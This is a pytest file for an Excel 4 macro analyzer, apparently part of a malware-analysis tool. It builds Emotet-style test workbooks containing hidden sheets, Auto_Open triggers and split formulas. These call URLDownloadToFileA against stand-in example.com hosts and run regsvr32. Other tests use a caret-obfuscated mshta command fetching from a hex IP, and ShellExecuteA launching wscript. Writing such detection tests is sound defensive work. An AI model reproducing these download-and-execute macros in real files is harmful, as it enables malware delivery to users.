from pathlib import Path
from random import Random

import pytest

from sekisho.analyzers import load
from sekisho.analyzers.xlm import FEATURES
from sekisho.app.lab.biff8 import Name, Sheet, write_workbook, write_xls
from sekisho.model.artifact import Artifact, Feature
from sekisho.model.errors import LimitError, MalformedError
from sekisho.model.limits import DEFAULT
from tests.analyzers.test__xlsm import package, xlsm

SHARED = Path(__file__).parents[2].parent / "shared" / "data"
XLM = load()["xlm"]
FIXTURES = SHARED / "fixtures" / "oletools" / "excel4-macros"
needs_data = pytest.mark.skipif(not SHARED.exists(), reason="real data not beside the project")


def run(data, name="x.xls"):
    """Features by name, children by name, and the error at the end."""
    artifact = Artifact(name, data, name)
    assert XLM.claims(artifact)
    features, children, error = {}, {}, None
    try:
        for found in XLM.run(artifact):
            if isinstance(found, Feature):
                assert found.name in FEATURES
                features.setdefault(found.name, []).append(found.value)
            else:
                children[found.name] = found
    except (MalformedError, LimitError) as problem:
        error = problem
    return features, children, error


def emotet():
    code = ["=CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCBB\",0,\"http://one.example/a/\",\"..\\xd.ocx\",0,0)",
            "=IF(HRHRE1<0,CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCBB\",0,\"http://two.example/b/\",\"..\\xd.ocx\",0,0))",
            "=IF(HRHRE2<0,CLOSE(0))", "=EXEC(\"C:\\Windows\\System32\\regsvr32.exe ..\\xd.ocx\")", "=RETURN()"]  # fmt: skip
    fragments, macro = {}, {}
    for row, line in enumerate(code, 1):
        middle = len(line) // 2
        fragments |= {f"P{row}": line[1:middle], f"H{row}": line[middle:]}
        macro[f"D{row}"] = f"=FORMULA(CHAR(61)&Vv1!P{row}&Vv1!H{row},D{row + 10})"
    return write_xls(
        [Sheet("Sheet1", {"A1": "Enable Content"}), Sheet("Vv1", fragments, state="very_hidden"),
         Sheet("Mac", macro, macro=True, state="very_hidden")],
        [Name("Auto_Open", "Mac!$D$1", hidden=True), Name("HRHRE1", "Mac!$D$11"), Name("HRHRE2", "Mac!$D$12")],
    )  # fmt: skip


def test_a_hidden_sheet_that_downloads_and_runs():
    features, children, error = run(emotet())
    assert error is None
    assert features["xlm.sheet"] == ["Mac"]
    assert features["xlm.hidden"] == ["very_hidden"]
    assert features["xlm.auto_open"] == ["Auto_Open=Mac!$D$1"]
    assert features["xlm.hidden_name"] == ["Auto_Open=Mac!$D$1"]
    assert features["xlm.formula"][0] == "Mac!D1 =FORMULA(CHAR(61)&'Vv1'!P1&'Vv1'!H1,D11)"
    assert [url.canonical for url in features["url"]] == ["http://one.example/a/", "http://two.example/b/"]
    assert features["xlm.calls"][-1] == 'EXEC("C:\\Windows\\System32\\regsvr32.exe ..\\xd.ocx")'
    assert features["macro.grade"] == ["obfuscated_exec"]
    assert {"auto_open", "very_hidden_sheet", "hidden_name", "runtime_formula", "downloads", "starts_program"} <= set(
        features["macro.reason"]
    )
    child = children["EXEC"]
    assert (child.kind, child.relation) == ("cmd", "decoded")
    assert child.data == b"C:\\Windows\\System32\\regsvr32.exe ..\\xd.ocx"


def test_a_command_in_carets_and_a_hex_address():
    data = write_xls(
        [
            Sheet(
                "M",
                {"A1": '=EXEC("cmd /c m^sh^t^a h^tt^p^:/^/"&B1)', "A2": "=HALT()", "B1": "0xcb00710a/x.html"},
                macro=True,
            )
        ],
        [Name("Auto_Open", "M!$A$1")],
    )
    features, children, _ = run(data)
    assert [url.ip for url in features["url"]] == ["203.0.113.10"]
    assert children["EXEC"].data == b"cmd /c m^sh^t^a h^tt^p^:/^/0xcb00710a/x.html"
    assert features["xlm.cell"] == ["M!B1 0xcb00710a/x.html"]


@pytest.mark.parametrize(
    ("cells", "auto", "grade"),
    [
        ({"A1": '=EXEC("calc")'}, True, "auto_exec"),
        ({"A1": '=EXEC("ca"&"lc")'}, True, "obfuscated_exec"),
        ({"A1": '=EXEC("calc")'}, False, "inert"),
        ({"A1": '=ALERT("hello")', "A2": "=HALT()"}, True, "auto_run"),
        ({"A1": "=HALT()"}, False, "inert"),
    ],
)
def test_grades(cells, auto, grade):
    names = [Name("Auto_Open", "M!$A$1")] if auto else []
    features, _, _ = run(write_xls([Sheet("M", cells, macro=True)], names))
    assert features["macro.grade"] == [grade]


def test_nothing_for_a_workbook_without_macro_sheets():
    assert run(write_xls([Sheet("Data", {"A1": "x"})])) == ({}, {}, None)


def test_what_is_no_workbook_is_not_claimed():
    for data in (
        b"",
        b"ID;no records",
        b"PK\x03\x04",
        package({"[Content_Types].xml": "", "word/document.xml": ""}),
        b"text",
    ):
        assert not XLM.claims(Artifact("x.xls", data, "x"))


def test_a_bare_workbook_stream():
    features, _, _ = run(write_workbook([Sheet("M", {"A1": "=HALT()"}, macro=True)]))
    assert features["xlm.formula"] == ["M!A1 =HALT()"]


def test_open_xml_and_a_file_that_is_written():
    cells = (
        '<row r="1"><c r="A1"><f>FOPEN("C:\\ProgramData\\run.vbs",3)</f></c></row>'
        '<row r="2"><c r="A2"><f>FWRITELN(A1,"MsgBox "&amp;CHAR(34)&amp;"x"&amp;CHAR(34))</f></c></row>'
        '<row r="3"><c r="A3"><f>CALL("Shell32","ShellExecuteA","JJCCCJJ",0,"open","wscript.exe","C:\\x.vbs",0,5)</f></c></row>'
    )
    features, children, error = run(xlsm(cells, '<definedName name="_xlnm.Auto_Open">Mac!$A$1</definedName>'), "x.xlsm")
    assert error is None
    assert features["xlm.file_written"] == ["C:\\ProgramData\\run.vbs"]
    assert children["run.vbs"].data == b'MsgBox "x"\r\n'
    assert children["EXEC"].data == b"wscript.exe C:\\x.vbs"


def test_sylk():
    features, _, _ = run(b'ID;P\nO;E\nNN;NAuto_open;ER1C1\nC;Y1;X1;K0;EEXEC("calc.exe")\nE\n', "form.slk")
    assert features["xlm.formula"] == ['form!A1 =EXEC("calc.exe")']
    assert features["macro.grade"] == ["auto_exec"]


def test_a_limit_comes_after_what_was_found():
    cells = {"A1": '=EXEC("calc")', "A2": '=SET.NAME("n",n+1)', "A3": "=GOTO(A2)"}
    features, children, error = run(
        write_xls([Sheet("M", cells, macro=True)], [Name("Auto_Open", "M!$A$1"), Name("n", "M!$B$1")])
    )
    assert isinstance(error, LimitError)
    assert error.value == DEFAULT.steps
    assert features["macro.grade"] == ["auto_exec"]
    assert children["EXEC"].data == b"calc"


def test_mutations_end_in_foreseen_errors():
    samples = [emotet(), xlsm('<row r="1"><c r="A1"><f>EXEC("a")</f></c></row>'), b"ID;P\nO;E\nC;Y1;X1;EHALT()\nE"]
    random = Random(13)
    for number in range(300):
        data = bytearray(samples[number % 3])
        for _ in range(random.choice((1, 3, 10))):
            data[random.randrange(len(data))] = random.randrange(256)
        artifact = Artifact("x", bytes(data[: random.randrange(len(data))] if number % 5 == 0 else data), "x")
        try:
            if XLM.claims(artifact):
                list(XLM.run(artifact))
        except (MalformedError, LimitError):
            continue


@needs_data
@pytest.mark.shared
@pytest.mark.parametrize("name", ["xls", "xlt", "xlsb", "xlsm", "xltm", "slk", "excel5"])
def test_sample_macros_read_as_the_established_tools_read_them(name):
    stem = "excel4_sample_macro"
    path = FIXTURES / (f"{stem}_excel5_format.xls" if name == "excel5" else f"{stem}.{name}")
    features, _, error = run(path.read_bytes(), path.name)
    sheet = stem if name == "slk" else "Macro1"
    assert error is None
    assert features["xlm.formula"] == [f'{sheet}!A1 =ALERT("This is a sample Excel 4 macro")', f"{sheet}!A2 =HALT()"]
    assert features["xlm.calls"] == ['ALERT("This is a sample Excel 4 macro")']
    assert features["macro.grade"] == ["auto_run"]


@needs_data
@pytest.mark.shared
def test_mutated_samples_end_in_foreseen_errors():
    samples = [path.read_bytes() for path in sorted(FIXTURES.iterdir())]
    random = Random(17)
    for number in range(350):
        data = bytearray(samples[number % len(samples)])
        for _ in range(random.choice((1, 2, 8))):
            data[random.randrange(len(data))] ^= 1 << random.randrange(8)
        artifact = Artifact("x", bytes(data), "x")
        try:
            if XLM.claims(artifact):
                list(XLM.run(artifact))
        except (MalformedError, LimitError):
            continue
